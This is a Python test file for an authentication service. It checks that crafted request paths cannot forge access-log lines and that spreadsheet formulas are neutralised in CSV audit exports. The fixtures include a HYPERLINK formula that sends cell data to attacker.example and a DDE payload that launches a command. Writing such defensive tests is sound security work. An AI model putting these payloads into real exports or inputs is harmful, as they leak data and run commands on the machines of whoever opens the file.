"""Log and CSV injection (issue 10, item 7): a crafted path cannot forge an access-log
line, and text a spreadsheet would run as a formula (a typed login ``=HYPERLINK(...)``,
a user agent ``@SUM(...)``) is neutralised in every CSV export: REST, Settings UI, CLI."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
from pathlib import Path

import httpx2
import pytest
from typer.testing import CliRunner

from authgate.cli import app as cli_app
from authgate.services.audit_export import spreadsheet_safe
from authgate.settings import Settings
from tests.conftest import ADMIN_PASSWORD, Harness, bearer, test_settings

FORGED_LINE = "2026-12-04 17:40:00,000 INFO authgate.access: 10.0.0.9 GET /api/admin 200 1.0ms"
# Over LoginVM's 50 characters, so an e-mail-like one (with "@"): others are refused (400)
# before anything is recorded.
LOGIN_FORMULA = '=HYPERLINK("https://x@attacker.example/?leak="&A1,"Click for details")'
AGENT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def settings(tmp_path: Path, database_url: str) -> Settings:
    return test_settings(tmp_path / "data", database_url=database_url, access_log=True)


async def test_crafted_path_stays_on_one_access_log_line(
    harness: Harness, caplog: pytest.LogCaptureFixture
) -> None:
    """``GET /api/x%0a<forged line>`` is logged as one line, the LF escaped as ``\\n``."""
    caplog.set_level(logging.INFO, logger="authgate.access")
    response = await harness.client.get("/api/x%0a" + FORGED_LINE.replace(" ", "%20"))
    assert response.status_code == 404
    lines = [r.getMessage() for r in caplog.records if r.name == "authgate.access"]
    assert len(lines) == 1
    assert lines[0].splitlines() == [lines[0]]
    assert "/api/x\\n2026-12-04 17:40:00,000 INFO authgate.access:" in lines[0]


async def test_control_characters_and_backslashes_in_paths_are_escaped(
    harness: Harness, caplog: pytest.LogCaptureFixture
) -> None:
    """CR, ESC, NEL, U+2028 and a literal backslash in a path are written as escapes."""
    caplog.set_level(logging.INFO, logger="authgate.access")
    await harness.client.get("/api/a%0db%1bc%c2%85d%e2%80%a8e%5cn")
    (line,) = [r.getMessage() for r in caplog.records if r.name == "authgate.access"]
    assert " /api/a\\rb\\x1bc\\x85d\\u2028e\\\\n " in line


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (42, 42),
    ],
)
def test_spreadsheet_safe(value: object, safe: object) -> None:
    """OWASP's formula starts (= + - @ TAB CR, and LF) get a leading quote; nothing else."""
    assert spreadsheet_safe(value) == safe


async def failed_login_with_formulas(harness: Harness) -> None:
    """A failed login whose typed name and user agent are spreadsheet formulas."""
    response = await harness.client.post(
        "/api/authenticate",
        json={"username": LOGIN_FORMULA, "password": "not-the-password"},
        headers={"User-Agent": AGENT_FORMULA},
    )
    assert response.status_code == 401
    await harness.services.audit.flush()


def failure_row(text: str) -> dict[str, str]:
    """The CSV row of the one AUTH_FAILURE record in ``text``."""
    rows = list(csv.DictReader(io.StringIO(text)))
    (row,) = [row for row in rows if row["type"] == "AUTH_FAILURE"]
    return row


async def test_rest_csv_export_neutralises_formulas(harness: Harness) -> None:
    """The typed login and the user agent of a failed login reach the REST export with a
    leading quote, so a spreadsheet shows them as text instead of running them."""
    await harness.create_user("admin", ADMIN_PASSWORD, admin=True)
    await failed_login_with_formulas(harness)
    token = await harness.login("admin", ADMIN_PASSWORD)
    response = await harness.client.get(
        "/api/audit-events/export", params={"format": "csv"}, headers=bearer(token)
    )
    assert response.status_code == 200
    row = failure_row(response.text)
    assert row["actor"] == "'" + LOGIN_FORMULA.lower()
    assert row["userAgent"] == "'" + AGENT_FORMULA
    # JSON Lines is data, not a spreadsheet: it keeps the exact values.
    lines = await harness.client.get(
        "/api/audit-events/export", params={"format": "json"}, headers=bearer(token)
    )
    assert LOGIN_FORMULA.lower().replace('"', '\\"') in lines.text


async def test_cli_csv_export_neutralises_formulas(harness: Harness, settings: Settings) -> None:
    """``authgate audit export`` writes the same neutralised cells."""
    await failed_login_with_formulas(harness)
    environment = {
        "AUTHGATE_DATA_DIR": str(settings.data_dir),
        "AUTHGATE_DATABASE_URL": settings.effective_database_url,
    }
    # In a thread: the CLI runs its own event loop.
    result = await asyncio.to_thread(
        lambda: CliRunner().invoke(cli_app, ["audit", "export", "--format", "csv"], env=environment)
    )
    assert result.exit_code == 0, result.output
    row = failure_row(result.stdout)
    assert row["actor"] == "'" + LOGIN_FORMULA.lower()
    assert row["userAgent"] == "'" + AGENT_FORMULA


def test_httpx_sends_the_agent_unchanged() -> None:
    """The test's user agent reaches the server as written (no client-side quoting)."""
    request = httpx2.Request("GET", "http://testserver/", headers={"User-Agent": AGENT_FORMULA})
    assert request.headers["user-agent"] == AGENT_FORMULA
